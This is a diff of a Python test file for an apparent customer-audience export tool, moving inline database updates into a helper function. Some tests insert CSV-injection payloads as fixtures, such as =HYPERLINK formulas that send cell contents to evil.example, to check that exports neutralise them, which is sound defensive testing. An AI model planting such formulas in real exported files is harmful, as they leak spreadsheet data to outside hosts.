@@ -5,7 +5,7 @@ from __future__ import annotations
 import csv
 import hashlib
 import unicodedata
-from datetime import date
+from datetime import date, datetime
 from pathlib import Path
 
 import duckdb
@@ -18,6 +18,7 @@ from segmint.cli import main
 from segmint.publish import publish_warehouse
 from segmint.stages import SegmintError
 from segmint.warehouse import connect
+from tests.include.audiences.conftest import update_customers
 
 AS_OF = date(2026, 6, 30)
 NEXT = date(2026, 7, 1)
@@ -43,9 +44,7 @@ def built(settings, defs_folder):
 
 
 def test_consent_enforced_at_export_even_after_withdrawal(built, tmp_path):
-    con = connect(built.warehouse)
-    con.execute("update marts.customers set ads_opt_in = false where customer_id = 'C01'")
-    con.close()
+    update_customers(built, {"C01": {"ads_opt_in": False}})
     result = export_audience(built, "everyone", "csv", tmp_path / "e.csv")
     ids = [r["customer_id"] for r in _rows(tmp_path / "e.csv")]
     assert ids == ["C03", "C04", "C06", "C07", "C08", "C10", "C11", "C12"]
@@ -92,9 +91,7 @@ def test_the_export_line_says_how_many_target_members_consent_left_out(
         "(2 left out: without the consent this file needs now, held, or suppressed since "
         "the snapshot) -> "
     )
-    con = connect(settings.warehouse)
-    con.execute("update marts.customers set email_opt_in = false where customer_id = 'C01'")
-    con.close()
+    update_customers(settings, {"C01": {"email_opt_in": False}})
     export = export_audience(settings, "mail", "mailchimp", tmp_path / "mc.csv")
     # C01 withdrew since the snapshot; C05 has no address (not a consent matter).
     assert (export.rows, export.without_consent, export.without_email) == (9, 1, 0)
@@ -107,12 +104,7 @@ def test_an_ad_platform_file_counts_who_it_could_not_match(settings, defs_folder
     reason, and audiences.export_members recorded C04 as on the platform's list (erasure's
     list of files holding them, the readout's customers reached)."""
     defs_folder(every="name: every\nconsent: ads\nwhere: {feature: order_count, gte: 0}\n")
-    con = connect(settings.warehouse)
-    con.execute(
-        "update marts.customers set email = null, phone = null, first_name = null "
-        "where customer_id = 'C04'"
-    )
-    con.close()
+    update_customers(settings, {"C04": {"email": None, "phone": None, "first_name": None}})
     build_audiences(settings, AS_OF)
     export = export_audience(settings, "every", fmt, tmp_path / "f.csv")
     assert (export.rows, export.target, export.without_identifier) == (8, 9, 1)
@@ -152,16 +144,9 @@ def test_ad_platform_files_hash_no_placeholder_address(
     no address by the CRM suite's rule, now leaves the e-mail empty; a customer with nothing
     else to match is left out of the file and counted."""
     defs_folder(every="name: every\nconsent: ads\nwhere: {feature: order_count, gte: 0}\n")
-    con = connect(settings.warehouse)
-    for customer_id, email in PLACEHOLDERS.items():
-        con.execute(
-            "update marts.customers set email = ?, phone = null, first_name = null "
-            "where customer_id = ?",
-            [email, customer_id],
-        )
+    changes = {c: {"email": e, "phone": None, "first_name": None} for c, e in PLACEHOLDERS.items()}
     # C12 keeps a name and address to match on: in the file, without an e-mail.
-    con.execute("update marts.customers set email = 'noreply@shop.com' where customer_id = 'C12'")
-    con.close()
+    update_customers(settings, {**changes, "C12": {"email": "noreply@shop.com"}})
     build_audiences(settings, AS_OF)
     out = tmp_path / "f.csv"
     export = export_audience(settings, "every", fmt, out)
@@ -199,12 +184,7 @@ def test_ad_platform_files_hash_no_placeholder_address(
 
 def test_esp_files_send_to_no_placeholder_address(settings, defs_folder, tmp_path):
     defs_folder(mail="name: mail\nconsent: email\nwhere: {feature: order_count, gte: 0}\n")
-    con = connect(settings.warehouse)
-    for customer_id, email in PLACEHOLDERS.items():
-        con.execute(
-            "update marts.customers set email = ? where customer_id = ?", [email, customer_id]
-        )
-    con.close()
+    update_customers(settings, {c: {"email": e} for c, e in PLACEHOLDERS.items()})
     build_audiences(settings, AS_OF)
     out = tmp_path / "m.csv"
     export = export_audience(settings, "mail", "mailchimp", out)
@@ -301,13 +281,14 @@ def test_google_customer_match_file(built, tmp_path):
 def test_platform_files_read_trunk_zero_as_national_and_drop_extensions(built, tmp_path):
     # C06 lives in Emden (area code 04921): national format, not "+49 211 ...". C07 and
     # C08 wrote an extension, which is not part of the number.
-    con = connect(built.warehouse)
-    con.execute("update marts.customers set phone = '04921 1234567' where customer_id = 'C06'")
-    con.execute("update marts.customers set phone = '(555) 123-4567 x89' where customer_id = 'C07'")
-    con.execute(
-        "update marts.customers set phone = '+33 1 23 45 67 89 ext. 12' where customer_id = 'C08'"
+    update_customers(
+        built,
+        {
+            "C06": {"phone": "04921 1234567"},
+            "C07": {"phone": "(555) 123-4567 x89"},
+            "C08": {"phone": "+33 1 23 45 67 89 ext. 12"},
+        },
     )
-    con.close()
     export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
     export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
     google = {r["Email"]: r["Phone"] for r in _rows(tmp_path / "g.csv")}
@@ -333,12 +314,8 @@ def test_platform_files_drop_a_trunk_prefix_written_after_the_country_code(built
         "C10": ("06 30 123 4567", "HU", "+36301234567"),
         "C11": ("+39 06 1234 5678", "IT", "+390612345678"),
     }
-    con = connect(built.warehouse)
-    for customer, (phone, country, _) in phones.items():
-        con.execute(
-            "update marts.customers set phone = ?, country = ? where customer_id = ?",
-            [phone, country, customer],
-        )
+    update_customers(built, {c: {"phone": p, "country": n} for c, (p, n, _) in phones.items()})
+    con = connect(built.warehouse, read_only=True)
     emails = dict(
         con.execute(
             "select customer_id, email from marts.customers where customer_id in "
@@ -360,13 +337,7 @@ def _assert_phones_reach_every_file(
 ) -> None:
     """Give each customer a phone as written and a country (customer -> (phone, country,
     E.164)); the Google, Meta and Braze files of 'everyone' hold each in E.164."""
-    con = connect(built.warehouse)
-    for customer, (phone, country, _) in phones.items():
-        con.execute(
-            "update marts.customers set phone = ?, country = ? where customer_id = ?",
-            [phone, country, customer],
-        )
-    con.close()
+    update_customers(built, {c: {"phone": p, "country": n} for c, (p, n, _) in phones.items()})
     export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
     export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
     export_audience(built, "everyone", "braze", tmp_path / "b.csv")
@@ -406,9 +377,7 @@ def test_platform_files_read_each_countrys_international_prefix(built, tmp_path)
 def test_platform_files_leave_out_a_nanp_number_without_ten_digits(built, tmp_path):
     # "+1 415 555 26711" (a digit too many) passed the 8-15 digit check: hashed for Google
     # and Meta, written to the Braze file, a number of nobody.
-    con = connect(built.warehouse)
-    con.execute("update marts.customers set phone = '+1 415 555 26711' where customer_id = 'C01'")
-    con.close()
+    update_customers(built, {"C01": {"phone": "+1 415 555 26711"}})
     export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
     export_audience(built, "everyone", "braze", tmp_path / "b.csv")
     google = {r["Phone"] for r in _rows(tmp_path / "g.csv")}
@@ -418,16 +387,13 @@ def test_platform_files_leave_out_a_nanp_number_without_ten_digits(built, tmp_pa
 
 def test_platform_files_hash_names_in_nfc_with_combining_marks(built, tmp_path):
     # C10 stored decomposed (NFD) 'José'; C11 a Hindi name whose vowel signs are marks.
-    con = connect(built.warehouse)
-    con.execute(
-        "update marts.customers set first_name = ? where customer_id = 'C10'",
-        [unicodedata.normalize("NFD", "José")],
+    update_customers(
+        built,
+        {
+            "C10": {"first_name": unicodedata.normalize("NFD", "José")},
+            "C11": {"first_name": "प्रिया", "last_name": "शर्मा"},
+        },
     )
-    con.execute(
-        "update marts.customers set first_name = 'प्रिया', last_name = 'शर्मा' "
-        "where customer_id = 'C11'"
-    )
-    con.close()
     export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
     export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
     google = {r["Email"]: r for r in _rows(tmp_path / "g.csv")}
@@ -529,27 +495,26 @@ def test_diff_baseline_is_the_previous_diff_not_another_format(settings, defs_fo
 
 def test_csv_neutralises_spreadsheet_formulas_in_free_text_only(built, tmp_path):
     # CRM values a spreadsheet would run as formulas (OWASP "CSV Injection").
-    con = connect(built.warehouse)
-    con.execute(
-        """update marts.customers set
-            first_name = '=HYPERLINK("https://evil.example/?"&A2, "Click")',
-            last_name = '+SUM(1,2)', city = '@cmd', loyalty_tier = '-2+3',
-            postal_code = chr(9) || '=1+1', phone = '+1 (415) 555-2671'
-        where customer_id = 'C07'"""
+    update_customers(
+        built,
+        {
+            "C07": {
+                "first_name": '=HYPERLINK("https://evil.example/?"&A2, "Click")',
+                "last_name": "+SUM(1,2)",
+                "city": "@cmd",
+                "loyalty_tier": "-2+3",
+                "postal_code": "\t=1+1",
+                "phone": "+1 (415) 555-2671",
+            },
+            "C08": {"first_name": "\r=1", "email": "-hugo@example.com"},
+            # E-mail and phone columns hold whatever the CRM's free-text fields held.
+            "C10": {
+                "phone": '=HYPERLINK("https://evil.example/?leak", "Call us")',
+                "email": "=1+1@example.com",
+            },
+            "C01": {"phone": "-2+3"},
+        },
     )
-    con.execute(
-        "update marts.customers set first_name = chr(13) || '=1', email = '-hugo@example.com' "
-        "where customer_id = 'C08'"
-    )
-    # E-mail and phone columns hold whatever the CRM's free-text fields held.
-    con.execute(
-        """update marts.customers set
-            phone = '=HYPERLINK("https://evil.example/?leak", "Call us")',
-            email = '=1+1@example.com'
-        where customer_id = 'C10'"""
-    )
-    con.execute("update marts.customers set phone = '-2+3' where customer_id = 'C01'")
-    con.close()
     cols = ["first_name", "last_name", "city", "loyalty_tier", "postal_code", "email", "phone"]
     cols += ["birth_date"]
     out = tmp_path / "names.csv"
@@ -590,12 +555,9 @@ def test_csv_neutralises_spreadsheet_formulas_in_free_text_only(built, tmp_path)
 
 
 def test_google_file_clear_text_columns_cannot_be_formulas(built, tmp_path):
-    con = connect(built.warehouse)
-    con.execute(
-        "update marts.customers set postal_code = '=1+1', country = 'fr' where customer_id = 'C08'"
+    update_customers(
+        built, {"C08": {"postal_code": "=1+1", "country": "fr"}, "C10": {"country": "=A1"}}
     )
-    con.execute("update marts.customers set country = '=A1' where customer_id = 'C10'")
-    con.close()
     out = tmp_path / "g.csv"
     export_audience(built, "everyone", "google_customer_match", out)
     rows = {r["Email"]: r for r in _rows(out)}
@@ -752,9 +714,7 @@ def test_a_rerun_of_the_night_logs_its_export_files_once(settings, defs_folder, 
     export_audience(settings, "a", "csv", out)
     assert logged() == first
     # A different file there (C01 withdrew consent since): a row of its own.
-    con = connect(settings.warehouse)
-    con.execute("update marts.customers set ads_opt_in = false where customer_id = 'C01'")
-    con.close()
+    update_customers(settings, {"C01": {"ads_opt_in": False}})
     export_audience(settings, "a", "csv", out)
     assert logged() == (5, 5, 9)
     assert out.read_text() == "customer_id\nC07\n"
@@ -825,11 +785,7 @@ def test_an_empty_platform_file_is_a_warning(settings, defs_folder, tmp_path, ca
 def test_google_file_hashes_the_canonical_gmail_address(built, tmp_path):
     # Google matches a Gmail address without its dots and "+tag"; the file hashed them as
     # written, so "grace.brown+shop@gmail.com" matched no Google account. Meta: as written.
-    con = connect(built.warehouse)
-    con.execute(
-        "update marts.customers set email = 'Grace.Brown+shop@gmail.com' where customer_id = 'C07'"
-    )
-    con.close()
+    update_customers(built, {"C07": {"email": "Grace.Brown+shop@gmail.com"}})
     export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
     export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
     assert _sha("gracebrown@gmail.com") in {r["Email"] for r in _rows(tmp_path / "g.csv")}
@@ -838,9 +794,7 @@ def test_google_file_hashes_the_canonical_gmail_address(built, tmp_path):
 
 def test_platform_files_restore_a_us_zip_codes_leading_zero(built, tmp_path):
     # C01 lives in Boston, ZIP 02118-1234, stored as "2118-1234" after a spreadsheet.
-    con = connect(built.warehouse)
-    con.execute("update marts.customers set postal_code = '2118-1234' where customer_id = 'C01'")
-    con.close()
+    update_customers(built, {"C01": {"postal_code": "2118-1234"}})
     export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
     export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
     anna = _sha("anna.smith@example.com")
@@ -851,12 +805,7 @@ def test_platform_files_restore_a_us_zip_codes_leading_zero(built, tmp_path):
 def test_meta_file_hashes_a_postcode_as_meta_cuts_it_at_the_dash(built, tmp_path):
     # C06 moved to Warsaw: postal code 00-950. Meta's normalisers keep "00"; the file hashed
     # "00950", which Meta's side never makes, so the zip matched nobody. Google keeps it.
-    con = connect(built.warehouse)
-    con.execute(
-        "update marts.customers set country = 'PL', postal_code = '00-950' "
-        "where customer_id = 'C06'"
-    )
-    con.close()
+    update_customers(built, {"C06": {"country": "PL", "postal_code": "00-950"}})
     export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
     export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
     felix = _sha("felix@example.com")
@@ -869,12 +818,7 @@ def test_names_lose_tabs_and_line_breaks_at_their_ends(built, tmp_path):
     # trim() keeps (it takes spaces only): Google was sent sha256("grace\t"), which matches
     # nobody (Google: "trim leading and trailing whitespace"), and the ESP file "'\tGrace",
     # the leading tab taken for a formula. Both now get "Grace" (Meta keeps letters only).
-    con = connect(built.warehouse)
-    con.execute(
-        "update marts.customers set first_name = chr(9) || 'Grace', "
-        "last_name = 'Brown' || chr(13) || chr(10) where customer_id = 'C07'"
-    )
-    con.close()
+    update_customers(built, {"C07": {"first_name": "\tGrace", "last_name": "Brown\r\n"}})
     export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
     export_audience(built, "mail", "klaviyo", tmp_path / "k.csv")
     google = {r["Email"]: r for r in _rows(tmp_path / "g.csv")}[_sha("grace@example.com")]
@@ -1033,13 +977,9 @@ def test_a_placeholder_address_links_no_records(settings, defs_folder, tmp_path)
     the csv and Meta (C07's phone matches) included, as "also on a customer record without
     consent": a placeholder is nobody's address and links no records."""
     defs_folder(every="name: every\nconsent: ads\nwhere: {feature: order_count, gte: 0}\n")
-    con = connect(settings.warehouse)
-    con.execute(
-        "update marts.customers set email = 'NoEmail@shop.com' "
-        "where customer_id in ('C05', 'C07', 'C08', 'C10')"
-    )
-    con.execute("update marts.customers set phone = '+1 312 555 0100' where customer_id = 'C07'")
-    con.close()
+    changes = {c: {"email": "NoEmail@shop.com"} for c in ("C05", "C07", "C08", "C10")}
+    changes["C07"]["phone"] = "+1 312 555 0100"
+    update_customers(settings, changes)
     build_audiences(settings, AS_OF)
     export = export_audience(settings, "every", "csv", tmp_path / "e.csv")
     ids = [r["customer_id"] for r in _rows(tmp_path / "e.csv")]
@@ -1049,11 +989,7 @@ def test_a_placeholder_address_links_no_records(settings, defs_folder, tmp_path)
     assert meta.shared_address == 0
     assert _sha("13125550100") in {r["phone"] for r in _rows(tmp_path / "m.csv")}
     # A real address shared with a record without consent still leaves its customers out.
-    con = connect(settings.warehouse)
-    con.execute(
-        "update marts.customers set email = 'anna.smith@example.com' where customer_id = 'C05'"
-    )
-    con.close()
+    update_customers(settings, {"C05": {"email": "anna.smith@example.com"}})
     assert export_audience(settings, "every", "csv", tmp_path / "a.csv").shared_address == 1
 
 
@@ -1082,28 +1018,23 @@ def test_the_latest_record_of_an_address_decides_its_consent(settings, defs_fold
         return [r["Email Address"] for r in _rows(folder / "mail_mailchimp.csv")]
 
     assert "anna.smith@example.com" in mailchimp(), "an older record without consent"
-    for changed in ("timestamp '2026-06-29 08:00:00'", "null"):
-        con = connect(settings.warehouse)
-        con.execute(
-            f"update marts.customers set crm_updated_at = {changed} where customer_id = 'C13'"
-        )
-        con.close()
+    for changed in (datetime(2026, 6, 29, 8), None):
+        update_customers(settings, {"C13": {"crm_updated_at": changed}})
         assert "anna.smith@example.com" not in mailchimp(), f"unsubscribed later ({changed})"
 
 
 def test_esp_files_neutralise_formulas_in_names_only(built, tmp_path):
-    con = connect(built.warehouse)
-    con.execute(
-        """update marts.customers set
-            first_name = '=HYPERLINK("https://evil.example/?"&A2, "Click")',
-            last_name = '  Brown ', phone = '+1 (312) 555-0100'
-        where customer_id = 'C07'"""
+    update_customers(
+        built,
+        {
+            "C07": {
+                "first_name": '=HYPERLINK("https://evil.example/?"&A2, "Click")',
+                "last_name": "  Brown ",
+                "phone": "+1 (312) 555-0100",
+            },
+            "C08": {"first_name": "  -Hugo", "email": "-hugo@example.com"},
+        },
     )
-    con.execute(
-        "update marts.customers set first_name = '  -Hugo', email = '-hugo@example.com' "
-        "where customer_id = 'C08'"
-    )
-    con.close()
     export_audience(built, "mail", "klaviyo", tmp_path / "k.csv")
     rows = {r["Email"]: r for r in _rows(tmp_path / "k.csv")}
     grace = rows["grace@example.com"]
@@ -1117,17 +1048,17 @@ def test_esp_files_neutralise_formulas_in_names_only(built, tmp_path):
 def test_esp_files_leave_out_and_count_customers_without_a_usable_address(
     built, tmp_path, scalar, capsys
 ):
-    con = connect(built.warehouse)
-    con.execute("update marts.customers set email = null where customer_id = 'C12'")
-    con.execute("update marts.customers set email = 'n/a' where customer_id = 'C11'")
-    con.execute("update marts.customers set email = 'karin @example.com' where customer_id = 'C10'")
-    # Text a spreadsheet would run as a formula is no mailbox either.
-    con.execute("update marts.customers set email = '=1+1@example.com' where customer_id = 'C09'")
-    con.execute(
-        """update marts.customers set email = 'x"),HYPERLINK("evil.example@x.io'
-        where customer_id = 'C08'"""
+    update_customers(
+        built,
+        {
+            "C12": {"email": None},
+            "C11": {"email": "n/a"},
+            "C10": {"email": "karin @example.com"},
+            # Text a spreadsheet would run as a formula is no mailbox either.
+            "C09": {"email": "=1+1@example.com"},
+            "C08": {"email": 'x"),HYPERLINK("evil.example@x.io'},
+        },
     )
-    con.close()
     out = tmp_path / "m.csv"
     result = export_audience(built, "mail", "mailchimp", out)
     addresses = [r["Email Address"] for r in _rows(out)]
@@ -1150,10 +1081,9 @@ def test_mailchimp_files_leave_out_an_address_with_accents_before_the_at(built, 
     """Mailchimp supports international characters in an address only after the "@": an
     import refuses josé@example.com, which the file held and export_members counted as on
     the list. It is left out and counted; Klaviyo and Braze files keep it."""
-    con = connect(built.warehouse)
-    con.execute("update marts.customers set email = 'José@Example.com' where customer_id = 'C01'")
-    con.execute("update marts.customers set email = 'anna@bücher.de' where customer_id = 'C02'")
-    con.close()
+    update_customers(
+        built, {"C01": {"email": "José@Example.com"}, "C02": {"email": "anna@bücher.de"}}
+    )
     result = export_audience(built, "mail", "mailchimp", tmp_path / "m.csv")
     addresses = [r["Email Address"] for r in _rows(tmp_path / "m.csv")]
     assert "josé@example.com" not in addresses and "anna@bücher.de" in addresses
@@ -1171,12 +1101,7 @@ def test_mailchimp_files_cut_an_over_long_name_at_a_character_and_count_it(built
     Klaviyo and Braze document no such limit and get the name as it is."""
     long_first = "é" * 200  # 400 bytes
     long_last = "Smith " * 60  # 360 bytes
-    con = connect(built.warehouse)
-    con.execute(
-        "update marts.customers set first_name = ?, last_name = ? where customer_id = 'C01'",
-        [long_first, long_last],
-    )
-    con.close()
+    update_customers(built, {"C01": {"first_name": long_first, "last_name": long_last}})
     result = export_audience(built, "mail", "mailchimp", tmp_path / "m.csv")
     row = next(
         r for r in _rows(tmp_path / "m.csv") if r["Email Address"] == "anna.smith@example.com"
@@ -1197,9 +1122,7 @@ def test_mailchimp_and_klaviyo_files_have_one_row_per_address(built, tmp_path, s
     files held it twice, and those platforms key contacts by address: one row took the other's
     place in an order nobody chose. Now the file has one row per address, the record changed
     last; both customers are on the list (export_members), counted in the export line."""
-    con = connect(built.warehouse)
-    con.execute("update marts.customers set email = ' Felix@Example.com' where customer_id = 'C07'")
-    con.close()
+    update_customers(built, {"C07": {"email": " Felix@Example.com"}})
     for fmt, header in (("mailchimp", "Email Address"), ("klaviyo", "Email")):
         result = export_audience(built, "mail", fmt, tmp_path / f"{fmt}.csv")
         rows = _rows(tmp_path / f"{fmt}.csv")
@@ -1253,9 +1176,7 @@ def test_declared_esp_exports_are_written_by_the_stage(settings, defs_folder):
         a="name: a\nconsent: email\nwhere: {rule_segment: vip}\nexports: [mailchimp]\n",
         b="name: b\nconsent: ads\nwhere: {rule_segment: lapsing}\nexports: [klaviyo, braze]\n",
     )
-    con = connect(settings.warehouse)
-    con.execute("update marts.customers set email = '' where customer_id = 'C11'")
-    con.close()
+    update_customers(settings, {"C11": {"email": ""}})
     result = build_audiences(settings, AS_OF)
     folder = settings.output / "2026-06-30" / "audiences"
     assert sorted(p.rsplit("/", 1)[1] for p in result.details["exports"]) == [
@@ -1364,16 +1285,13 @@ def test_ad_platform_files_hash_possible_phone_numbers_only(built, tmp_path):
     was read with Singapore's own prefix 004 and hashed as +420 79460958 (a Czech number a
     digit short); a French number with a digit too many was hashed as it was. Now the
     London number is +44 20 7946 0958 in both files, and the French one is left out."""
-    con = connect(built.warehouse)
-    con.execute(
-        "update marts.customers set phone = '0044 20 7946 0958', country = 'SG' "
-        "where customer_id = 'C01'"
+    update_customers(
+        built,
+        {
+            "C01": {"phone": "0044 20 7946 0958", "country": "SG"},
+            "C03": {"phone": "06 12 34 56 789", "country": "FR"},
+        },
     )
-    con.execute(
-        "update marts.customers set phone = '06 12 34 56 789', country = 'FR' "
-        "where customer_id = 'C03'"
-    )
-    con.close()
     export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
     export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
     meta = {r["phone"] for r in _rows(tmp_path / "m.csv")} - {""}
@@ -1386,16 +1304,13 @@ def test_ad_platform_files_give_old_brazilian_mobiles_their_ninth_digit(built, t
     """A São Paulo mobile as written before the ninth digit, "(11) 8765-4321", was hashed as
     +55 11 8765-4321, which nobody has had since 2012: it is +55 11 98765-4321 now. A
     Bolivian number dialled with its trunk 0 and carrier code 10 lost its 0 only."""
-    con = connect(built.warehouse)
-    con.execute(
-        "update marts.customers set phone = '(11) 8765-4321', country = 'BR' "
-        "where customer_id = 'C01'"
+    update_customers(
+        built,
+        {
+            "C01": {"phone": "(11) 8765-4321", "country": "BR"},
+            "C03": {"phone": "0 10 2 2123456", "country": "BO"},
+        },
     )
-    con.execute(
-        "update marts.customers set phone = '0 10 2 2123456', country = 'BO' "
-        "where customer_id = 'C03'"
-    )
-    con.close()
     export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
     meta = {r["phone"] for r in _rows(tmp_path / "m.csv")} - {""}
     assert meta == {_sha("5511987654321"), _sha("59122123456")}
@@ -1405,12 +1320,7 @@ def test_meta_file_hashes_a_latvian_postal_code_without_its_lv(built, tmp_path):
     """A Riga postal code as Latvians write it, "LV-1050", was cut at its dash and hashed as
     "lv", the zip of every Latvian. Meta's file now hashes 1050; Google's clear Zip keeps
     the code as written."""
-    con = connect(built.warehouse)
-    con.execute(
-        "update marts.customers set postal_code = 'LV-1050', country = 'LV' "
-        "where customer_id = 'C01'"
-    )
-    con.close()
+    update_customers(built, {"C01": {"postal_code": "LV-1050", "country": "LV"}})
     export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
     export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
     assert _sha("1050") in {r["zip"] for r in _rows(tmp_path / "m.csv")}
@@ -1422,16 +1332,13 @@ def test_meta_file_keeps_the_letters_a_cayman_or_jersey_postcode_starts_with(bui
     """A Cayman postal code starts with KY, the country's ISO code: "KY1-1102" was taken for
     Latvia's "LV-1050", lost its KY and was hashed as "1", and Jersey's "JE2 3AB" as "23ab".
     Meta's file now hashes "ky1" (cut at the dash, as Meta's normalisers) and "je23ab"."""
-    con = connect(built.warehouse)
-    con.execute(
-        "update marts.customers set postal_code = 'KY1-1102', country = 'KY' "
-        "where customer_id = 'C01'"
+    update_customers(
+        built,
+        {
+            "C01": {"postal_code": "KY1-1102", "country": "KY"},
+            "C03": {"postal_code": "JE2 3AB", "country": "JE"},
+        },
     )
-    con.execute(
-        "update marts.customers set postal_code = 'JE2 3AB', country = 'JE' "
-        "where customer_id = 'C03'"
-    )
-    con.close()
     export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
     export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
     meta = {r["email"]: r["zip"] for r in _rows(tmp_path / "m.csv")}
